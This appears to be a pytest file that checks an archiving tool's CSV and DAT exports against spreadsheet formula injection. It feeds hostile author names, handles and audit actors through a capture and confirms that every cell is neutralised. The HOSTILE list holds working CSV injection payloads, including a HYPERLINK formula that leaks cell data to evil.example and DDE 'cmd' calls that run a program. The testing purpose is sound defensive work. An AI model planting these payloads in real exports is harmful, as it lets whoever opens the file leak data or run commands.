"""No cell of any CSV or DAT an export writes can start a spreadsheet formula (OWASP CSV
injection: https://owasp.org/www-community/attacks/CSV_Injection). Hostile author names, an
account handle, an audit actor and an exemption go through the real capture and both packages;
every cell of every file is then checked."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import select

from archiver.capture.account import capture_account
from archiver.exports.loadfiles import DatWriter, clean_value, read_dat
from archiver.exports.open_records import OpenRecordsOptions, export_open_records
from archiver.exports.production import ProductionOptions, export_production
from archiver.exports.redaction import Redactor, load_rules, parse_item_redactions
from archiver.exports.selection import Scope
from archiver.standins.dataset import Author, load_sample
from archiver.standins.graph_server import GraphServer
from archiver.store.accounts import AccountSpec, add_account
from archiver.store.archive import Archive
from archiver.store.audit import record_event
from archiver.store.models import Item
from tests.support.graph import SleepRecorder
from tests.test_export_open_records import register

TOKEN_ENV = "ARCHIVER_TOKEN_FORMULA_TEST"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    " =1+1",
    "\u3000=1+1",  # ideographic space
    "\uff1dHYPERLINK(\"http://evil.example\")",  # fullwidth equals sign
    "\uff20SUM(1)",  # fullwidth commercial at
    "\t=1+1",
    "\r=1+1",
)
ACTOR = "=HYPERLINK(\"http://evil.example/custody\")"
HANDLE = "@springfieldpd"


def formula(cell: str) -> bool:
    """Would a spreadsheet start evaluating this cell (OWASP's list, after NFKC, past spaces)?"""
    folded = unicodedata.normalize("NFKC", cell)
    return folded[:1] in ("\t", "\r", "\n") or folded.lstrip()[:1] in ("=", "+", "-", "@")


def csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for c in row]


@pytest.fixture
def hostile(archive: Archive) -> Archive:
    sample = load_sample()
    comments = tuple(
        replace(c, author=Author(f"9{i}", HOSTILE[i % len(HOSTILE)])) if c.author else c
        for i, c in enumerate(sample.comments))
    with GraphServer(replace(sample, comments=comments), page_size=5) as server:
        account = add_account(archive, AccountSpec(
            platform="facebook", external_id=server.dataset.page_id, handle=HANDLE,
            api_base=server.base_url, token_env=TOKEN_ENV), actor="test")
        result = capture_account(archive, account, {TOKEN_ENV: server.token},
                                 sleep=SleepRecorder())
        assert result.status == "succeeded", result.error
    with archive.transaction() as s:
        for item_id in s.scalars(select(Item.id)):
            record_event(s, action="item.reviewed", occurred_at=archive.clock(), actor=ACTOR,
                         target_type="item", target_id=item_id, details={"note": "+cmd"})
    return archive


def test_every_csv_and_dat_cell_is_guarded(hostile: Archive, tmp_path: Path) -> None:
    with hostile.sessions() as s:
        first = s.scalars(select(Item.id).order_by(Item.id)).first()
    register(hostile)
    redactor = Redactor(rules=load_rules(), items=parse_item_redactions([f"{first}:+1 exempt"]))
    bag = export_open_records(hostile, Scope(query="*"), OpenRecordsOptions(
        request_id="KORA-2024-17", out=tmp_path / "or.zip", actor="clerk", pdf=False,
        redactor=redactor)).path
    production = export_production(hostile, Scope(query="*"), ProductionOptions(
        bates_prefix="SPD", out=tmp_path / "prod.zip", actor="counsel")).path

    seen: dict[str, list[str]] = {}
    with zipfile.ZipFile(bag) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                seen[name.split("/", 1)[1]] = csv_cells(zf.read(name))
    folder = tmp_path / "prod"
    with zipfile.ZipFile(production) as zf:
        zf.extractall(folder)
    (top,) = folder.iterdir()
    for path in top.rglob("*.csv"):
        seen[str(path.relative_to(top))] = csv_cells(path.read_bytes())
    (dat,) = top.glob("*.dat")
    seen[dat.name] = [cell for row in read_dat(dat) for cell in row.values()]
    assert {"data/index.csv", "data/redactions.csv", "CUSTODY/versions.csv",
            "CUSTODY/events.csv", dat.name} <= set(seen)

    for name, cells in seen.items():
        bad = [c for c in cells if formula(c)]
        assert not bad, f"{name}: {bad[:3]}"
    everything = {c for cells in seen.values() for c in cells}
    # The values are kept, shown as text.
    for value in HOSTILE:
        assert "'" + value.replace("\r", "\u00ae") in everything or "'" + value in everything
    assert "'" + ACTOR in everything and "'" + HANDLE in everything
    assert "'+1 exempt" in everything


@pytest.mark.parametrize("value", HOSTILE)
def test_dat_writer_guards_every_field(value: str) -> None:
    buf = io.StringIO(newline="")
    DatWriter(buf, ("BEGBATES", "AUTHOR", "CUSTODIAN")).row(
        {"BEGBATES": "SPD-0000001", "AUTHOR": value, "CUSTODIAN": value})
    path_text = buf.getvalue()
    cells = path_text.split("\r\n")[1].split("\u0014")
    assert cells[0] == "\u00feSPD-0000001\u00fe"
    cleaned = clean_value(value)  # a CR becomes the DAT newline mark (®)...
    as_loaded = cleaned.replace("\u00ae", "\n")  # ...which a review platform reads as one
    for cell in cells[1:]:
        inner = cell[1:-1]
        assert not formula(inner.replace("\u00ae", "\n"))
        assert inner == ("'" + cleaned if formula(as_loaded) else cleaned)


def test_harmless_values_are_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "x.dat"
    with path.open("w", encoding="utf-8", newline="") as fh:
        DatWriter(fh, ("AUTHOR", "URL")).row({"AUTHOR": "Jane O'Neil", "URL": "https://x.test/a"})
    assert list(read_dat(path)) == [{"AUTHOR": "Jane O'Neil", "URL": "https://x.test/a"}]
